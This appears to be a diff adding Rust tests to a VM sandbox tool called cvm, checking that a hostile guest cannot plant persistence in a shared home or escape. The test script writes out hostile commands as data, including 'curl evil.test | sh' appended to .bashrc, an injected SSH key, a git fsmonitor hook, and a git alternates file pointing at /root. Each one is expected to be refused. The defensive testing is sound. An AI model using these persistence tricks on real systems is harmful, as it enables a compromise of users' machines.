@@ -122,6 +122,33 @@ fn files_the_guest_plants_in_the_project_do_not_widen_the_next_session() {
     env.assert_clean();
 }
 
+#[test]
+fn a_shared_home_keeps_its_dot_files_and_cvm_s_own() {
+    let Some(env) = Env::new() else { return };
+    let home = env.home.path();
+    std::fs::write(home.join(".bashrc"), "# the user's\n").unwrap();
+    let script = r#"
+        t() { label=$1; shift; if "$@" >/dev/null 2>&1; then echo "$label ok"; else echo "$label refused"; fi; }
+        t cvm-toml sh -c 'printf "[network]\nmode = \"open\"\n" >> .cvm.toml'
+        t bashrc sh -c 'echo "curl evil.test | sh" >> .bashrc'
+        t authorized-keys sh -c 'mkdir -p .ssh && echo key >> .ssh/authorized_keys'
+        t gitconfig sh -c 'printf "[core]\n\tfsmonitor = touch /tmp/pwned\n" > .gitconfig'
+        t profile-by-rename sh -c 'echo evil > p && mv p .profile'
+        t plain-file sh -c 'echo mine > notes.txt'
+    "#;
+    let engine = engine();
+    let out = env.run(engine, &[arg(home), "--", "sh", "-c", script], b"");
+    assert_eq!(out.status.code(), Some(0), "[{engine}] {}", text(&out.stderr));
+    let expected = "cvm-toml refused\nbashrc refused\nauthorized-keys refused\ngitconfig refused\nprofile-by-rename refused\nplain-file ok\n";
+    assert_eq!(text(&out.stdout), expected, "[{engine}] {}", text(&out.stderr));
+    assert_eq!(std::fs::read_to_string(home.join(".bashrc")).unwrap(), "# the user's\n", "[{engine}]");
+    for planted in [".cvm.toml", ".ssh", ".gitconfig", ".profile"] {
+        assert!(!home.join(planted).exists(), "[{engine}] {planted} was made");
+    }
+    assert_eq!(std::fs::read_to_string(home.join("notes.txt")).unwrap(), "mine\n", "[{engine}] the rest of the home is the guest's to write");
+    env.assert_clean();
+}
+
 /// The live processes whose command line names `marker`: "PID COMMAND LINE" each.
 fn processes_naming(marker: &str) -> Vec<String> {
     let mut found = Vec::new();
@@ -285,6 +312,8 @@ fn a_hostile_guest_escapes_nothing() {
         try host-header-fronting get -H 'Host: evil.test' http://allowed.test:@ALLOWED@/
         try not-allowed-name get http://example.com/
         try mapped-name-other-port get http://allowed.test:@LOOPBACK@/
+        try chown-to-another-user sudo chown 4242 a.txt
+        try borrow-host-objects sh -c 'mkdir -p .git/objects/info && echo /root/private/.git/objects > .git/objects/info/alternates'
         try fill-the-disk fallocate -l 2G filler
         try sparse-8t truncate -s 8T sparse
         try quota-by-many-writes sh -c 'for i in 1 2 3 4 5; do head -c 16M /dev/zero > many$i || exit 1; done'
@@ -345,13 +374,16 @@ fn a_hostile_guest_escapes_nothing() {
     eprintln!("[{engine}] hostile guest:\n{table}{under_flood}");
     assert_eq!(out.status.code(), Some(0), "[{engine}] {table} {}", text(&out.stderr));
     let summary = lines.last().unwrap();
-    assert!(summary.starts_with("attempts 36, blocked 36, escaped 0"), "[{engine}] {table}");
+    assert!(summary.starts_with("attempts 38, blocked 38, escaped 0"), "[{engine}] {table}");
     assert!(!under_flood.is_empty(), "[{engine}] the flood was not held: {table}");
 
     // The host's side.
     assert_eq!(std::fs::read(project.join(".git/config")).unwrap(), config, "[{engine}]");
     assert_eq!(std::fs::read_to_string(read_only.join("file")).unwrap(), "read only\n", "[{engine}]");
     let added = project_bytes() - bytes_before;
+    let owner = |path: &Path| std::os::unix::fs::MetadataExt::uid(&std::fs::metadata(path).unwrap());
+    assert_eq!(owner(&project.join("a.txt")), owner(&project), "[{engine}] a.txt was given away");
+    assert!(!project.join(".git/objects/info/alternates").exists(), "[{engine}]");
     assert!(added <= 64 << 20, "[{engine}] the guest added {added} bytes past its 64 MiB quota");
     assert!(text(&out.stderr).contains("reached its quota on the share"), "[{engine}] cvm says so: {}", text(&out.stderr));
     assert!(!hosts_seen.lock().unwrap().iter().any(|h| h.contains("evil")), "[{engine}] {:?}", hosts_seen.lock().unwrap());
